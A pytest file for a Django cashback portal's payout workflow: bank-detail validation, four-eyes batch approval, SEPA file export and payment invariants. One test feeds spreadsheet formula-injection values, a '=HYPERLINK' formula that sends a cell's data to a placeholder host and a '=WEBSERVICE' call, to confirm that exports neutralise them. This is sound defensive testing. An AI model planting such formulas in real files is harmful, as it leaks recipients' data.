"""Payouts: bank details, batches with four eyes, the SEPA file, paid, cancelled; the invariants."""

import io
from datetime import date, timedelta
from pathlib import Path

import pytest
import sepaxml
from django.contrib.auth.models import Permission
from django.core import mail
from django.db import IntegrityError, transaction
from lxml import etree
from openpyxl import load_workbook

from cashback import queue
from cashback.errors import InvalidInput
from cashback.models import Job
from devices.models import CampaignProduct
from registrations.companies.models import Membership, User
from registrations.core.choices import Reason, Status
from registrations.core.errors import InvalidTransition
from registrations.core.models import Registration, StatusChange
from registrations.documents import services
from registrations.notifications import tasks as email_tasks
from registrations.payouts import bank, selectors
from registrations.payouts import services as payouts
from registrations.payouts.files import company_specification, control_sum, remittance
from registrations.payouts.models import BankAccountChange, PayoutBatch, PayoutItem
from tests.conftest import PASSWORD, make_company
from tests.payouts.helpers import ALL, client_for, paid_batch

XSD = Path(sepaxml.__file__).parent / "schemas" / "pain.001.001.03.xsd"
NS = {"p": "urn:iso:std:iso:20022:tech:xsd:pain.001.001.03"}


# Bank details ------------------------------------------------------------------------------


@pytest.mark.parametrize("iban, bic, field, message", [
    ("NL91ABNA0417164301", "", "iban", "This IBAN is not valid"),
    ("NL91ABNA04171643", "", "iban", "This IBAN is not valid"),
    ("NL91ABNA0417164300", "RABONL2U", "bic", r"This BIC is not the bank of this IBAN \(that is ABNANL2A\)"),
    ("NL91ABNA0417164300", "GEBABEBB", "bic", "This BIC is of a bank in BE, the IBAN of an account in NL"),
    ("NL91ABNA0417164300", "ABN", "bic", "This BIC is not valid"),
])
def test_bank_details_are_validated(iban, bic, field, message):
    with pytest.raises(InvalidInput, match=message) as refused:
        bank.clean_bank_details(iban, bic, "Zonnewerk B.V.")
    assert refused.value.field == field


def test_belgian_and_luxembourg_accounts_are_accepted():
    assert bank.clean_bank_details("BE68 5390 0754 7034", "", "Soleil")[0] == "BE68539007547034"
    assert bank.clean_bank_details("lu28 0019 4006 4475 0000", "bceelull", "Lux")[1] == "BCEELULL"


def test_a_company_admin_enters_bank_details_and_every_change_is_recorded_and_emailed(
    installer_client, company, installer, django_capture_on_commit_callbacks
):
    company.language = "en"
    company.save()
    with django_capture_on_commit_callbacks(execute=True):
        response = installer_client.post("/company/bank/", {"holder": "Zonnewerk B.V.", "iban": "NL91 ABNA 0417 1643 00",
                                                            "bic": ""})
    assert response.status_code == 302
    with django_capture_on_commit_callbacks(execute=True):
        installer_client.post("/company/bank/", {"holder": "Zonnewerk B.V.", "iban": "NL20INGB0001234567", "bic": ""})
    first, second = BankAccountChange.objects.order_by("id")
    assert (first.old, first.new) == ("", "NL91 **** **** **43 00, Zonnewerk B.V.")
    assert (second.old, second.new, second.changed_by) == (first.new, "NL20 **** **** **45 67, Zonnewerk B.V.", installer)
    assert [m.to for m in mail.outbox] == [[company.contact_email, installer.email]] * 2
    assert mail.outbox[1].subject == "The bank details of Zonnewerk B.V. were changed"
    assert "NL20 **** **** **45 67" in mail.outbox[1].body and "NL20INGB0001234567" not in mail.outbox[1].body
    page = installer_client.get("/company/bank/").content.decode()
    assert "NL20 INGB 0001 2345 67" in page


def test_only_the_company_admin_changes_bank_details(client, company, campaign):
    colleague = User.objects.create_user(email="joris@example.com", password=PASSWORD)
    Membership.objects.create(user=colleague, company=company, role="member")
    client.force_login(colleague)
    client.post("/company/bank/", {"holder": "Evil", "iban": "NL20INGB0001234567", "bic": ""})
    assert not BankAccountChange.objects.exists()


def test_without_bank_details_registrations_are_held_out_and_the_overview_says_why(register, installer_client, alice):
    register("1000000001")
    page = installer_client.get("/").content.decode()
    assert "1 accepted registration (€ 200.00) waits for your bank details" in page
    preview = selectors.preview(ALL)
    assert preview["count"] == 0 and preview["held_out"][0]["count"] == 1
    with pytest.raises(payouts.PayoutError):
        payouts.create_batch(ALL, actor=alice)


# The batch ---------------------------------------------------------------------------------


def test_the_preview_shows_totals_per_company_and_overall_before_saving(accepted, other_company, register, alice):
    bank.set_bank_account(other_company, iban="BE68539007547034", bic="", holder="Soleil SRL", user=None)
    register("2000000001", "HM-20", company=other_company, user=other_company.memberships.get().user, country="BE",
             postcode="4000")
    preview = selectors.preview(ALL)
    assert [(c["company__name"], c["count"], c["total"]) for c in preview["companies"]] == [
        ("Soleil SRL", 1, 5000), ("Zonnewerk B.V.", 3, 60000),
    ]
    assert (preview["count"], preview["total"]) == (4, 65000)
    assert not PayoutBatch.objects.exists()
    belgian = selectors.preview(selectors.Selection(country="BE"))
    assert belgian["count"] == 1


def test_the_selection_by_decision_date(accepted, time_machine, register, alice):
    time_machine.move_to("2026-06-20 10:00 +02:00")
    register("1000000009")
    assert selectors.preview(selectors.Selection(decided_until=date(2026, 6, 15)))["count"] == 3
    assert selectors.preview(selectors.Selection(decided_until=date(2026, 6, 20)))["count"] == 4


def test_four_eyes_the_creator_cannot_approve(accepted, alice, bob):
    batch = payouts.create_batch(ALL, actor=alice)
    with pytest.raises(payouts.FourEyes):
        payouts.approve_batch(batch, actor=alice)
    with pytest.raises(IntegrityError), transaction.atomic():  # and the database agrees
        PayoutBatch.objects.filter(pk=batch.pk).update(approved_by=alice)
    assert payouts.approve_batch(batch, actor=bob).state == PayoutBatch.State.APPROVED


def test_export_writes_a_sepa_file_that_validates_with_one_payment_per_company(accepted, other_company, register,
                                                                              alice, bob):
    bank.set_bank_account(other_company, iban="BE68539007547034", bic="", holder="Soleil SRL", user=None)
    register("2000000001", "HM-20", company=other_company, user=other_company.memberships.get().user, country="BE",
             postcode="4000")
    batch = payouts.create_batch(ALL, actor=alice)
    payouts.approve_batch(batch, actor=bob)
    batch = payouts.export_batch(batch, actor=alice, execution_date=date(2026, 6, 15))
    xml = batch.sepa_file.read()
    document = etree.fromstring(xml)
    etree.XMLSchema(etree.parse(str(XSD))).assertValid(document)  # the official pain.001.001.03 XSD
    assert control_sum(xml) == (65000, 2) == (batch.total_cents, batch.company_count)
    assert sum(i.amount_cents for i in batch.items.all()) == batch.total_cents
    assert document.findtext(".//p:GrpHdr/p:MsgId", namespaces=NS) == batch.reference
    transfers = document.findall(".//p:CdtTrfTxInf", NS)
    by_name = {t.findtext("p:Cdtr/p:Nm", namespaces=NS): t for t in transfers}
    zonnewerk = by_name["Zonnewerk B.V."]
    assert zonnewerk.findtext("p:Amt/p:InstdAmt", namespaces=NS) == "600.00"
    assert zonnewerk.findtext("p:CdtrAcct/p:Id/p:IBAN", namespaces=NS) == "NL91ABNA0417164300"
    assert zonnewerk.findtext("p:RmtInf/p:Ustrd", namespaces=NS) == (
        f"Cashback {batch.reference}: 1000000001 1000000002 1000000003"
    )
    summary = load_workbook(io.BytesIO(batch.summary_file.read()))
    assert [r[2] for r in summary["Devices"].iter_rows(min_row=2, values_only=True)] == [
        "2000000001", "1000000001", "1000000002", "1000000003",
    ]


def test_an_exported_batch_is_locked(accepted, alice, bob):
    batch = payouts.create_batch(ALL, actor=alice)
    payouts.approve_batch(batch, actor=bob)
    payouts.export_batch(batch, actor=alice, execution_date=date(2026, 6, 15))
    for action in (lambda: payouts.cancel_batch(batch, actor=alice), lambda: payouts.approve_batch(batch, actor=bob),
                   lambda: payouts.export_batch(batch, actor=alice, execution_date=date(2026, 6, 18))):
        with pytest.raises(payouts.PayoutError):
            action()
    with pytest.raises(InvalidTransition, match="is in payout batch"):  # no audit of what is being paid
        services.request_documents(accepted[0], actor=bob, note="Audit")


def test_marking_paid_pays_every_registration_once_with_history_and_one_email_per_company(
    accepted, alice, bob, installer, company, django_capture_on_commit_callbacks
):
    company.language = "en"
    company.save()
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        batch = paid_batch(alice, bob)
    assert batch.state == PayoutBatch.State.PAID
    for registration in accepted:
        registration.refresh_from_db()
        assert (registration.status, registration.reason) == (Status.PAID, Reason.PAID)
        assert registration.paid_at.date() == date(2026, 6, 15)
        last = registration.history.last()
        assert (last.from_status, last.to_status, last.actor, last.note) == (
            Status.ACCEPTED, Status.PAID, bob, batch.reference
        )
    [email] = mail.outbox
    assert email.subject == "Cashback paid: € 600.00 for 3 devices"
    assert installer.email in email.to
    assert "1000000001: € 200.00" in email.body and "NL91 **** **** **43 00" in email.body
    assert "15 June 2026" in email.body


def test_the_installer_sees_which_serials_were_paid(accepted, alice, bob, installer_client, other_company, client):
    batch = paid_batch(alice, bob)
    page = installer_client.get("/payouts/").content.decode()
    assert batch.reference in page and "€ 600.00" in page
    response = installer_client.get(f"/payouts/{batch.pk}/specification.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [r[0] for r in sheet.iter_rows(min_row=5, max_row=7, values_only=True)] == [
        "1000000001", "1000000002", "1000000003",
    ]
    assert "Registered – Payment made" in installer_client.get(f"/registrations/{accepted[0].pk}/").content.decode()
    client.force_login(other_company.memberships.get().user)
    assert client.get(f"/payouts/{batch.pk}/specification.xlsx").status_code == 404
    assert batch.reference not in client.get("/payouts/").content.decode()


def test_cancelling_returns_the_registrations_to_the_pool(accepted, alice, bob):
    first = payouts.create_batch(ALL, actor=alice)
    with pytest.raises(payouts.PayoutError):  # nothing left for a second batch
        payouts.create_batch(ALL, actor=bob)
    payouts.cancel_batch(first, actor=bob, note="wrong month")
    second = payouts.create_batch(ALL, actor=bob)
    assert second.item_count == 3
    assert PayoutItem.objects.filter(active=True, batch=second).count() == 3
    assert first.history.last().note == "wrong month"


def test_a_registration_is_in_at_most_one_live_batch(accepted, alice, bob):
    batch = paid_batch(alice, bob)
    item = batch.items.first()
    other = PayoutBatch.objects.create(reference="CB-X", created_by=alice)
    with pytest.raises(IntegrityError, match="one_live_payout_per_registration|payoutitem.registration_id"), transaction.atomic():
        PayoutItem.objects.create(batch=other, registration=item.registration, company=item.company,
                                  serial=item.serial + "0", amount_cents=1)


def test_a_serial_is_paid_at_most_once_ever(accepted, alice, bob, register, other_company):
    batch = paid_batch(alice, bob)
    serial = batch.items.first().serial
    # Another company's registration of the same serial (it waits for documents: claimed twice).
    theirs = register(serial, company=other_company, user=other_company.memberships.get().user)
    other = PayoutBatch.objects.create(reference="CB-Y", created_by=alice)
    with pytest.raises(IntegrityError, match="one_live_payout_per_serial|payoutitem.serial"), transaction.atomic():
        PayoutItem.objects.create(batch=other, registration=theirs, company=other_company, serial=serial,
                                  amount_cents=20000)
    with pytest.raises(IntegrityError, match="one_accepted_registration_per_serial|registration.serial"), transaction.atomic():
        Registration.objects.filter(pk=theirs.pk).update(status=Status.PAID)


def test_the_account_approved_is_the_account_paid(accepted, alice, bob, company, installer,
                                                  django_capture_on_commit_callbacks):
    batch = payouts.create_batch(ALL, actor=alice)
    page = client_for(bob).get(f"/finance/{batch.pk}/").content.decode()
    assert "NL91ABNA0417164300" in page
    payouts.approve_batch(batch, actor=bob)
    bank.set_bank_account(company, iban="NL20INGB0001234567", bic="", holder="Mallory", user=installer)
    with pytest.raises(payouts.PayoutError, match="changed after the batch was made"):
        payouts.export_batch(batch, actor=alice, execution_date=date(2026, 6, 15))
    assert "changed since" in client_for(bob).get(f"/finance/{batch.pk}/").content.decode()
    bank.set_bank_account(company, iban="NL91ABNA0417164300", bic="ABNANL2A", holder="Zonnewerk B.V.", user=installer)
    batch = payouts.export_batch(batch, actor=alice, execution_date=date(2026, 6, 15))
    document = etree.fromstring(batch.sepa_file.read())
    assert [e.text for e in document.findall(".//p:CdtrAcct/p:Id/p:IBAN", NS)] == ["NL91ABNA0417164300"]


def test_names_from_installers_never_become_formulas_or_break_the_bank_file(register, company, installer, alice, bob):
    bank.set_bank_account(company, iban="NL91ABNA0417164300", bic="",
                          holder='=HYPERLINK("http://x.example/?"&D6,"ok") Zon & Dak_B.V. #1', user=installer)
    registration = register(reference="=WEBSERVICE(1)")
    batch = payouts.create_batch(ALL, actor=alice)
    payouts.approve_batch(batch, actor=bob)
    batch = payouts.export_batch(batch, actor=alice, execution_date=date(2026, 6, 15))
    summary = load_workbook(io.BytesIO(batch.summary_file.read()))
    holder_cell = summary["Payments"]["C6"]
    assert holder_cell.data_type == "s" and holder_cell.value.startswith("=HYPERLINK")
    name = etree.fromstring(batch.sepa_file.read()).findtext(".//p:Cdtr/p:Nm", namespaces=NS)
    assert set(name) <= set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789/-?:().,'+ ")
    assert "Zon + Dak B.V. 1" in name
    spec = installer_spec(company, batch)
    assert spec["D5"].data_type == "s" and spec["D5"].value == "=WEBSERVICE(1)"
    assert registration.reference == "=WEBSERVICE(1)"


def installer_spec(company, batch):
    return load_workbook(io.BytesIO(company_specification(company, batch))).active


def test_end_to_end_ids_are_unique_whatever_the_customer_numbers(accepted, alice, bob, campaign, register):
    long_a = make_company(campaign, name="A", customer_number="12345678901234567890", email="a@example.com")
    long_b = make_company(campaign, name="B", customer_number="12345678901234567899", email="b@example.com")
    for n, other in enumerate((long_a, long_b), start=5):
        bank.set_bank_account(other, iban="BE68539007547034", bic="", holder=other.name, user=None)
        register(f"100000000{n}", company=other, user=other.memberships.get().user)
    batch = payouts.create_batch(ALL, actor=alice)
    payouts.approve_batch(batch, actor=bob)
    batch = payouts.export_batch(batch, actor=alice, execution_date=date(2026, 6, 15))
    ids = [e.text for e in etree.fromstring(batch.sepa_file.read()).findall(".//p:EndToEndId", NS)]
    assert len(ids) == len(set(ids)) == 3


def test_zero_amounts_are_not_paid(register, with_bank, campaign, alice):
    CampaignProduct.objects.filter(campaign=campaign).update(amount_cents=0)
    register()
    assert selectors.preview(ALL)["count"] == 0


def test_dates_must_make_sense(accepted, alice, bob, time_machine):
    batch = payouts.create_batch(ALL, actor=alice)
    payouts.approve_batch(batch, actor=bob)
    with pytest.raises(payouts.PayoutError, match="cannot be in the past"):
        payouts.export_batch(batch, actor=alice, execution_date=date(2026, 6, 1))
    payouts.export_batch(batch, actor=alice, execution_date=date(2026, 6, 16))
    with pytest.raises(payouts.PayoutError, match="between the export"):
        payouts.mark_paid(batch, actor=bob, executed_on=date(2026, 6, 16))  # tomorrow
    time_machine.shift(timedelta(days=1))
    assert payouts.mark_paid(batch, actor=bob, executed_on=date(2026, 6, 16)).state == PayoutBatch.State.PAID


def test_an_export_the_bank_rejected_is_voided_by_a_second_person(accepted, alice, bob):
    batch = payouts.create_batch(ALL, actor=alice)
    payouts.approve_batch(batch, actor=bob)
    payouts.export_batch(batch, actor=alice, execution_date=date(2026, 6, 15))
    with pytest.raises(payouts.PayoutError, match="Write why"):
        payouts.void_export(batch, actor=bob, note=" ")
    with pytest.raises(payouts.FourEyes):
        payouts.void_export(batch, actor=alice, note="rejected")
    payouts.void_export(batch, actor=bob, note="Bank: file rejected, wrong debtor BIC")
    assert PayoutBatch.objects.get().state == PayoutBatch.State.CANCELLED
    assert payouts.create_batch(ALL, actor=bob).item_count == 3  # back in the pool


def test_a_broker_hiccup_costs_no_email(accepted, alice, bob, other_company, register, monkeypatch,
                                       django_capture_on_commit_callbacks, time_machine):
    bank.set_bank_account(other_company, iban="BE68539007547034", bic="", holder="Soleil", user=None)
    register("2000000001", "HM-20", company=other_company, user=other_company.memberships.get().user, country="BE",
             postcode="4000")
    original, calls = email_tasks.notify_payout.apply_async, []

    def flaky(*args, **kwargs):
        calls.append(args)
        if len(calls) == 1:
            raise ConnectionError("broker down")
        return original(*args, **kwargs)

    monkeypatch.setattr(email_tasks.notify_payout, "apply_async", flaky)
    Job.objects.all().delete()  # the registrations' emails, not at issue here
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        paid_batch(alice, bob)
    assert len(calls) == 2 and len(mail.outbox) == 1  # the second company's email left at once
    time_machine.shift(timedelta(minutes=1))
    queue.relay()  # and the first one's once the broker answers again
    assert len(calls) == 3 and len(mail.outbox) == 2


def test_the_admin_shows_batches_to_finance_only_and_never_their_files(accepted, alice, bob, staff_client):
    batch = paid_batch(alice, bob)
    page = staff_client.get(f"/admin/registrations/payoutbatch/{batch.pk}/change/").content.decode()
    assert batch.reference in page and ".xml" not in page and ".xlsx" not in page
    viewer = User.objects.create_user(email="viewer@example.com", password=PASSWORD, is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename="view_payoutbatch"))
    assert client_for(viewer).get(f"/admin/registrations/payoutbatch/{batch.pk}/change/").status_code == 403


def test_amounts_are_those_decided_not_the_current_table(accepted, campaign, alice, bob):
    CampaignProduct.objects.filter(campaign=campaign).update(amount_cents=99900)
    batch = payouts.create_batch(ALL, actor=alice)
    assert batch.total_cents == 60000
    assert set(batch.items.values_list("amount_cents", flat=True)) == {20000}


def test_remittance_lists_serials_when_they_fit():
    assert remittance("CB-1", ["1000000001"]) == "Cashback CB-1: 1000000001"
    long = remittance("CB-20261127-ABCDEF", [f"30{n:08d}" for n in range(40)])
    assert len(long) <= 140 and long.endswith("40 devices, see the specification in the portal")


# The finance pages --------------------------------------------------------------------------


def test_finance_pages_need_the_permission(installer_client, staff_client, db):
    helpdesk = User.objects.create_user(email="h@example.com", password=PASSWORD, is_staff=True)
    assert installer_client.get("/finance/").status_code == 403
    assert client_for(helpdesk).get("/finance/").status_code == 403
    assert staff_client.get("/finance/").status_code == 200  # superuser


def test_a_month_paid_through_the_finance_pages(accepted, alice, bob):
    a, b = client_for(alice), client_for(bob)
    page = a.get("/finance/new/", {"decided_until": "2026-06-30"}).content.decode()
    assert "3 registrations, € 600.00" in page and "Zonnewerk B.V." in page
    form = {"decided_until": "2026-06-30", "campaign": "", "country": "", "expected_count": 2, "expected_total": 40000}
    page = a.post("/finance/new/", form, follow=True).content.decode()
    assert "The selection changed since the preview" in page and not PayoutBatch.objects.exists()
    response = a.post("/finance/new/", {**form, "expected_count": 3, "expected_total": 60000})
    batch = PayoutBatch.objects.get()
    assert response["Location"] == f"/finance/{batch.pk}/"
    assert "you created this batch" in a.get(f"/finance/{batch.pk}/").content.decode()
    a.post(f"/finance/{batch.pk}/approve/")
    batch.refresh_from_db()
    assert batch.state == PayoutBatch.State.OPEN
    b.post(f"/finance/{batch.pk}/approve/")
    a.post(f"/finance/{batch.pk}/export/", {"execution_date": "2026-06-15"})
    sepa = a.get(f"/finance/{batch.pk}/sepa/")
    assert b"".join(sepa.streaming_content).startswith(b"<?xml")
    b.post(f"/finance/{batch.pk}/paid/", {"executed_on": "2026-06-15"})
    batch.refresh_from_db()
    assert batch.state == PayoutBatch.State.PAID
    assert set(Registration.objects.values_list("status", flat=True)) == {Status.PAID}
    assert StatusChange.objects.filter(to_status=Status.PAID).count() == 3


def test_a_bank_change_without_a_person_names_the_campaign_team(company, django_capture_on_commit_callbacks):
    company.language = "en"
    company.save()
    with django_capture_on_commit_callbacks(execute=True):
        bank.set_bank_account(company, iban="NL91ABNA0417164300", bic="", holder="Zonnewerk B.V.", user=None)
    [message] = mail.outbox
    assert "was changed by the SMA campaign team on" in message.body
